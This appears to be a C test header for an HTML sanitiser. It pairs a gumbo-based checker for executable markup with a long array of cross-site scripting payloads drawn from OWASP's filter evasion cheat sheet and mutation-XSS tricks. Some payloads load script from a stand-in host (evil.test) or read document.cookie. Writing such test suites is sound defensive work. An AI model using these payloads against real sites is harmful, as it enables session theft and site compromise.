/* Attacks on HTML sanitisers, and a browser's eye for whether one got through. */
#ifndef TESTS_CONTENT_ATTACKS_H
#define TESTS_CONTENT_ATTACKS_H

#include <gumbo.h>
#include <strings.h>

#include "content/sanitize.h"

/* ---- a browser's view of the result: gumbo, an independent parser of the HTML standard ---- */

static const char *const harmless_tags[] = {
    "address", "article", "aside", "footer", "header", "h1", "h2", "h3", "h4", "h5", "h6", "hgroup", "main", "nav", "section",
    "blockquote", "dd", "div", "dl", "dt", "figcaption", "figure", "hr", "li", "menu", "ol", "p", "pre", "ul", "a", "abbr", "b",
    "bdi", "bdo", "br", "cite", "code", "data", "dfn", "em", "i", "kbd", "mark", "q", "rb", "rp", "rt", "rtc", "ruby", "s",
    "samp", "small", "span", "strong", "sub", "sup", "time", "u", "var", "wbr", "caption", "col", "colgroup", "table", "tbody",
    "td", "tfoot", "th", "thead", "tr", "style", "img", "html", "head", "body", "link", "meta", "title"};

static inline bool url_can_run(const char *url)
{
    char bare[32];
    size_t n = 0;
    for (; *url && n < sizeof bare - 1; url++)
        if ((unsigned char)*url > 0x20)
            bare[n++] = (char)(*url >= 'A' && *url <= 'Z' ? *url + 32 : *url);
    bare[n] = 0;
    return !strncmp(bare, "javascript:", 11) || !strncmp(bare, "vbscript:", 9) || !strncmp(bare, "data:", 5) ||
           !strncmp(bare, "livescript:", 11) || !strncmp(bare, "mocha:", 6);
}

static inline const char *attribute_danger(const GumboAttribute *at)
{
    static const char *const urls[] = {"href", "src", "action", "formaction", "background", "poster", "data", "dynsrc",
                                       "lowsrc", "cite", "xlink:href", "srcset", "imagesrcset"};
    if (!strncasecmp(at->name, "on", 2) || !strcasecmp(at->name, "srcdoc"))
        return at->name;
    for (size_t i = 0; i < sizeof urls / sizeof *urls; i++)
        if (!strcasecmp(at->name, urls[i]) && url_can_run(at->value))
            return at->value;
    return NULL;
}

static inline const char *node_danger(const GumboNode *node)
{
    if (node->type != GUMBO_NODE_ELEMENT)
        return NULL;
    const GumboElement *e = &node->v.element;
    const char *name = gumbo_normalized_tagname(e->tag), *found = *name ? name : "unknown element";
    for (size_t i = 0; i < sizeof harmless_tags / sizeof *harmless_tags; i++)
        if (!strcmp(name, harmless_tags[i]))
            found = NULL;
    for (unsigned i = 0; !found && i < e->attributes.length; i++)
        found = attribute_danger(e->attributes.data[i]);
    for (unsigned i = 0; !found && i < e->children.length; i++)
        found = node_danger(e->children.data[i]);
    return found;
}

/* What could run in html, as a browser would read it; NULL: nothing. */
static inline const char *html_danger(struct arena *a, struct str html)
{
    GumboOutput *tree = gumbo_parse_with_options(&kGumboDefaultOptions, str_z(a, html), html.n);
    const char *danger = node_danger(tree->root);
    if (danger)
        danger = str_dup(a, str_of(danger)).p;
    gumbo_destroy_output(&kGumboDefaultOptions, tree);
    return danger;
}

/* The ideas of OWASP's XSS filter evasion cheat sheet, and mutation attacks on sanitisers that work on token streams. */
static const char *const attacks[] = {
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>x</a>",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>x</a>",
    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"java<!-- -->script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert&lpar;1&rpar;\">x</a>",
    "<SCRIPT/XSS SRC=\"http://evil.test/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://evil.test/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://evil.test/xss.js?< B >",
    "<SCRIPT SRC=//evil.test/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://evil.test/scriptlet.html <",
    "</script><script>alert('XSS');</script>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<IFRAME SRCDOC=\"<script>alert(1)</script>\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://evil.test/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<SCRIPT a=\">\" SRC=\"httx://evil.test/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://evil.test/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://evil.test/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://evil.test/xss.js\"></SCRIPT>",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "<details open ontoggle=alert(1)>",
    "<form><button formaction=javascript:alert(1)>X",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><style><!--</style><img src=x onerror=alert(1)>--></style></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style/>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;",
    "<style/><style/></style>&lt;img src=x onerror=alert(1)&gt;",
    "<style></style/><img src=x onerror=alert(1)></style>",
    "<style></style\v/><img src=x onerror=alert(1)></style>",
    "<style>a</style\f><img src=x onerror=alert(1)>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>",
    "<title/><img alt=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><img src=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><img src=\"</textarea><img src=x onerror=alert(1)>\">",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<p title='a\"onmouseover=alert(1) b'>x</p>",
    "<p a\"b='\" onclick=alert(1) c=\"'>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p class=\"a\"onclick=alert(1)>x</p>",
    "<p x=`\"onclick=alert(1)>`>x</p>",
    "<img src=\"x\" srcset=\"javascript:alert(1) 1x\">",
    "<img src=\"x\" srcset=\"jav&#9;ascript:alert(1)\">",
    "<link rel=preload imagesrcset=\"javascript:alert(1) 1x\">",
    "<a href=\"&#1;&#2; data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//evil.test/%0ajavascript:alert(1)\" onfocus=alert(1) autofocus>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!><img src=x onerror=alert(1)>",
    "</ <img src=x onerror=alert(1)>",
    "<a<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<p>\xc3<img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
};

#endif
